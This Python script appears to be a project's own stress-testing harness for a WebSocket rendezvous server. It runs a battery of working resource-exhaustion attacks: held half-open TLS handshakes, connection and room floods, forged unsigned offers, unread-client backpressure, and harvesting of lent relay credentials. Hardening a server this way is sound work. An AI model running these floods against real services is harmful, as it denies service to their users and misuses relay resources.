#!/usr/bin/env python3
"""Leans on the door of a rendezvous in one way for some seconds or until SIGTERM, and says what came of it, as attacker.py does to
a child, whose attacks it knows as well.

Needs nothing but Python, and openssl for those that have a key.
"""

from __future__ import annotations

import base64
import collections
import hashlib
import json
import math
import os
import select
import socket
import ssl
import struct
import subprocess
import tempfile
import time
from pathlib import Path
from typing import Any, Callable

import attacker
from attacker import Result, Target, base64url, close_code, frame, read_rest, register, upgrade


def half(target: Target) -> Result:
    """TLS handshakes that stop after the client's first message, and are held."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        target.context.wrap_bio(incoming, outgoing, server_hostname="x").do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    held: collections.deque[socket.socket] = collections.deque()
    attempted = 0
    while target.goes_on:
        attempted += 1
        connection = target.tcp()
        if connection is not None:
            try:
                connection.sendall(hello)
                held.append(connection)
            except OSError:
                target.answers["closed"] += 1
        if len(held) > target.count:
            held.popleft().close()
    for connection in held:
        connection.close()
    return {"attempted": attempted}


def read_text(connection: ssl.SSLSocket) -> str:
    """The next text message of a server, in one frame."""
    def exactly(count: int) -> bytes:
        data = b""
        while len(data) < count:
            piece = connection.recv(count - len(data))
            if not piece:
                raise OSError("closed")
            data += piece
        return data

    while True:
        first, second = exactly(2)
        length = second & 127
        if length == 126:
            (length,) = struct.unpack("!H", exactly(2))
        elif length == 127:
            (length,) = struct.unpack("!Q", exactly(8))
        payload = exactly(length)
        if first & 15 == 1:
            return payload.decode()


def command(**members: Any) -> bytes:
    return frame(1, json.dumps(members).encode())


def drop_closed(target: Target, held: list[ssl.SSLSocket], wait: float = 0, name: str = "") -> None:
    """Counts those that the server has closed by this name, else by why, and takes them out."""
    for one in select.select(held, [], [], wait)[0] if held else []:
        one.settimeout(0.5)
        data = b""
        try:
            data = one.recv(65536)
            # A frame's head and its payload come one after the other.
            if data and b"\x88" in data[-3:]:
                data += one.recv(65536)
        except OSError:
            pass
        if not data or b"\x88" in data:
            target.answers[name or close_code(data)] += 1
            held.remove(one)
            one.close()


def hold(
    target: Target, begin: Callable[[ssl.SSLSocket, int], bool], *, attempts: float = math.inf, patience: float = 0, name: str = "",
) -> Result:  # fmt: skip
    """WebSockets that say something, and are held until they are closed; then others come.

    `begin` has its say and whether the connection is to be held. With `patience`, in seconds, it goes on until one has been closed.
    """
    held: list[ssl.SSLSocket] = []
    attempted = most = 0
    deadline = time.monotonic() + patience
    while target.goes_on or not target.answers and time.monotonic() < deadline:
        is_open = target.goes_on and len(held) < target.count and attempted < attempts
        connection = upgrade(target) if is_open else None
        if connection is not None:
            attempted += 1
            try:
                if begin(connection, attempted):
                    held.append(connection)
                else:
                    connection.close()
            except (OSError, KeyError):
                target.answers["closed"] += 1
                connection.close()
        most = max(most, len(held))
        drop_closed(target, held, 0 if is_open else 0.1, name)
        if not held and not is_open:
            time.sleep(0.1)
    for one in held:
        one.close()
    return {"attempted": attempted, "mostHeld": most, "heldAtEnd": len(held)}


def mute(target: Target) -> Result:
    """WebSockets that say nothing."""
    return hold(target, lambda _, __: True, patience=60)


def claims(target: Target) -> Result:
    """Hosts that never prove it: of the room itself, and of others."""
    def begin(connection: ssl.SSLSocket, number: int) -> bool:
        name = target.room if number % 2 else os.urandom(8).hex()
        connection.sendall(command(cmd="register", roomid=name, clientid=name))
        return True
    return hold(target, begin, patience=60)


def rooms(target: Target) -> Result:
    """Rooms without a host by the thousand, with a message for it in each; the clients go at once, the messages wait."""
    attempted = 0
    while target.goes_on:
        connection = upgrade(target)
        if connection is None:
            continue
        attempted += 1
        name = os.urandom(8).hex()
        try:
            connection.sendall(
                command(cmd="register", roomid=name, clientid="x") + command(cmd="send", to=name, msg="m" * 1000))  # fmt: skip
            if "registered" in read_text(connection):
                target.answers["registered"] += 1
        except OSError:
            target.answers["closed"] += 1
        connection.close()
    return {"attempted": attempted}


def offers(target: Target) -> Result:
    """Offers to the child, as if from its paired parent: the parent's id, a signature that is none."""
    header = base64url(json.dumps({"alg": "ES256", "kid": target.parent}).encode())
    attempted = 0
    while target.goes_on:
        connection = upgrade(target)
        if connection is None:
            continue
        try:
            connection.settimeout(5)
            connection.sendall(register(target, f"x{attempted}"))
            for _ in range(20):
                attempted += 1
                payload = {
                    "type": "offer", "from": target.parent, "to": target.room, "session": base64url(os.urandom(16)),
                    "challenge": base64url(os.urandom(16)), "revision": 0, "sdp": "v=0\r\n" + "a=x\r\n" * 500,
                }  # fmt: skip
                text = f"{header}.{base64url(json.dumps(payload).encode())}.{base64url(os.urandom(64))}"
                connection.sendall(command(cmd="send", to=target.room, msg=text))
            target.answers[close_code(read_rest(connection, 2))] += 1
        except OSError:
            target.answers["closed"] += 1
        connection.close()
    return {"attempted": attempted}


class Identity:
    """A key, that of a file or one that nobody knows: any child's is as good at a rendezvous that is open to all."""

    def __init__(self, folder: str, file: str = ""):
        self.file = file or f"{folder}/key.pem"
        if not file:
            self.openssl("ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", self.file)
        self.public = self.openssl("ec", "-in", self.file, "-pubout", "-outform", "DER")
        self.id = hashlib.sha256(self.public).hexdigest()[:16]

    @staticmethod
    def openssl(*arguments: str, data: bytes = b"") -> bytes:
        return subprocess.run(["openssl", *arguments], input=data, capture_output=True, check=True).stdout

    def signed(self, payload: dict[str, Any]) -> str:
        """A compact JWS (RFC 7515), ES256."""
        text = ".".join(base64url(json.dumps(part).encode()) for part in ({"alg": "ES256", "kid": self.id}, payload))
        der = self.openssl("dgst", "-sha256", "-sign", self.file, data=text.encode())
        # A SEQUENCE of two INTEGERs, each shorter than 128 bytes.
        length = der[3]
        r, s = der[4 : 4 + length], der[6 + length :]
        return f"{text}.{base64url(b''.join(number.lstrip(bytes(1)).rjust(32, bytes(1)) for number in (r, s)))}"


def guest(target: Target) -> Result:
    """So many offers of a paired guest, each over a connection of its own that is held; the child has no place for most of them."""
    identity = Identity("", target.key)
    sdp = (Path(__file__).parent.parent.parent / "Fixtures/offer-aiortc.sdp").read_text()

    def begin(connection: ssl.SSLSocket, number: int) -> bool:
        connection.sendall(register(target, f"guest{number}"))
        registered = json.loads(read_text(connection))["registered"]
        challenge = registered["challenge"]
        if "present" in registered:
            # At a rendezvous: the child's own.
            payload = registered["present"].split(".")[1]
            challenge = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))["challenge"]
        offer = identity.signed({
            "type": "offer", "from": identity.id, "to": target.room, "session": base64url(os.urandom(16)),
            "challenge": challenge, "sdp": sdp})  # fmt: skip
        connection.sendall(command(cmd="send", to=target.room, msg=offer))
        target.answers["offered"] += 1
        return True
    return hold(target, begin, attempts=target.count)


def prove(target: Target, host: ssl.SSLSocket, identity: Identity) -> None:
    """The connection becomes the host of the identity's room; the answer is not read."""
    host.sendall(command(cmd="register", roomid=identity.id, clientid=identity.id))
    challenge = json.loads(read_text(host))["registered"]["challenge"]
    proof = identity.signed({
        "type": "host", "from": identity.id, "server": target.host, "challenge": challenge,
        "key": base64url(identity.public)})  # fmt: skip
    host.sendall(command(cmd="prove", proof=proof, presence="p"))


def unread(target: Target) -> Result:
    """A child of the attacker's own, with clients that it vouches for and that read nothing of what it sends them."""
    attempted = 0
    with tempfile.TemporaryDirectory() as folder:
        identity = Identity(folder)
        while target.goes_on:
            host, clients = upgrade(target), []
            if host is None:
                continue
            try:
                host.settimeout(10)
                prove(target, host, identity)
                assert "proved" in read_text(host)
                for number in range(target.count):
                    client = upgrade(target)
                    if client is None:
                        continue
                    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                    client.sendall(command(cmd="register", roomid=identity.id, clientid=f"x{number}"))
                    assert "registered" in read_text(client)
                    host.sendall(command(cmd="vouch", client=f"x{number}"))
                    clients.append(client)
                message, sent = "m" * 60_000, 0
                while target.goes_on:
                    for number in range(len(clients)):
                        host.sendall(command(cmd="send", to=f"x{number}", msg=message))
                        attempted, sent = attempted + 1, sent + 1
                        # What the server takes of one connection: a burst, then so many a second.
                        time.sleep(0.021 if sent > 100 else 0)
            except (OSError, AssertionError):
                target.answers["closed"] += 1
            for one in [host, *clients]:
                one.close()
    return {"attempted": attempted}


def borrow(target: Target) -> Result:
    """Children that are made up on the spot, for the relays that they are lent. Says what they got."""
    attempted = 0
    while target.goes_on:
        with tempfile.TemporaryDirectory() as folder:
            identity, host = Identity(folder), upgrade(target)
            if host is None:
                continue
            attempted += 1
            try:
                host.settimeout(10)
                prove(target, host, identity)
                lent = json.loads(read_text(host))["proved"]["iceServers"]
                target.answers["credentials" if any("credential" in server for server in lent) else "none"] += 1
                for server in lent:
                    target.answers[",".join(server["urls"])] += 1
            except (OSError, KeyError):
                target.answers["refused"] += 1
            host.close()
            time.sleep(0.1)
    return {"attempted": attempted}


def hosts(target: Target) -> Result:
    """Children that are made up on the spot and stay, each over a connection of its own; others come when they are closed."""
    with tempfile.TemporaryDirectory() as folder:
        def begin(connection: ssl.SSLSocket, _: int) -> bool:
            connection.settimeout(10)
            prove(target, connection, Identity(folder))
            answer = json.loads(read_text(connection))
            target.answers["proved" if "proved" in answer else answer["error"]["code"]] += 1
            return "proved" in answer
        return hold(target, begin, name="displaced")


def vouches(target: Target) -> Result:
    """Children of the attacker's own that vouch for clients and go; the clients stay."""
    held: list[ssl.SSLSocket] = []
    attempted = most = 0
    with tempfile.TemporaryDirectory() as folder:
        while target.goes_on:
            host = upgrade(target)
            if host is None:
                continue
            try:
                identity = Identity(folder)
                host.settimeout(10)
                prove(target, host, identity)
                assert "proved" in read_text(host)
                for number in range(48):
                    client = upgrade(target) if target.goes_on and len(held) < target.count else None
                    if client is None:
                        continue
                    client.settimeout(10)
                    client.sendall(command(cmd="register", roomid=identity.id, clientid=f"x{number}"))
                    assert "registered" in read_text(client)
                    host.sendall(command(cmd="vouch", client=f"x{number}"))
                    target.answers["vouched" if "vouched" in read_text(client) else "refused"] += 1
                    attempted += 1
                    held.append(client)
                    most = max(most, len(held))
            except (OSError, AssertionError):
                target.answers["closed"] += 1
            host.close()
            drop_closed(target, held, name="displaced")
            if len(held) >= target.count:
                time.sleep(0.1)
    for one in held:
        one.close()
    return {"attempted": attempted, "mostHeld": most, "heldAtEnd": len(held)}


def to_child(target: Target, send: Callable[[ssl.SSLSocket], None]) -> Result:
    """Clients of the child's room that say what the server admits of each, and come again when they are closed."""
    attempted = 0
    held: collections.deque[ssl.SSLSocket] = collections.deque()
    while target.goes_on:
        connection = upgrade(target)
        if connection is not None:
            connection.settimeout(1)
            try:
                connection.sendall(register(target, os.urandom(8).hex()))
                held.append(connection)
            except OSError:
                connection.close()
        for one in list(held):
            try:
                send(one)
                attempted += 1
            except OSError:
                held.remove(one)
                one.close()
        while len(held) > target.count:
            held.popleft().close()
    for one in held:
        one.close()
    return {"attempted": attempted}


def knocks(target: Target) -> Result:
    """Registers again and again: at each the server asks the host for a sign of life."""
    again = [b""]

    def send(connection: ssl.SSLSocket) -> None:
        again[0] = again[0] or register(target, "knock")
        connection.sendall(again[0] * 3)
    return to_child(target, send)


def crumbs(target: Target) -> Result:
    """Many short messages for the child, each of which it refuses."""
    message = command(cmd="send", to=target.room, msg="m")
    return to_child(target, lambda connection: connection.sendall(message * 3))


ATTACKS: dict[str, Callable[[Target], Result]] = attacker.ATTACKS | {
    "half": half, "mute": mute, "claims": claims, "rooms": rooms, "offers": offers, "unread": unread, "guest": guest,
    "borrow": borrow, "hosts": hosts, "vouches": vouches, "knocks": knocks, "crumbs": crumbs,
}  # fmt: skip
COUNTS = attacker.COUNTS | {
    "half": 500, "mute": 200, "claims": 200, "unread": 40, "guest": 100, "hosts": 40, "vouches": 2000, "knocks": 200, "crumbs": 200,
}  # fmt: skip

if __name__ == "__main__":
    attacker.main(ATTACKS, COUNTS)
